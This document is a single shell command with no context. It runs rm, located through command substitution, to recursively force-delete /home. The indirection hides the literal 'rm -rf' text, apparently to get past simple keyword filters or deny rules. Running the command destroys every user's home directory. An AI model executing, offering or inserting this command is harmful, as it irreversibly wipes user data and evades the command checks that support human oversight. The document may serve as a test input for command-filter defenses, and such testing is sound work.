`type -p rm` -fr /home
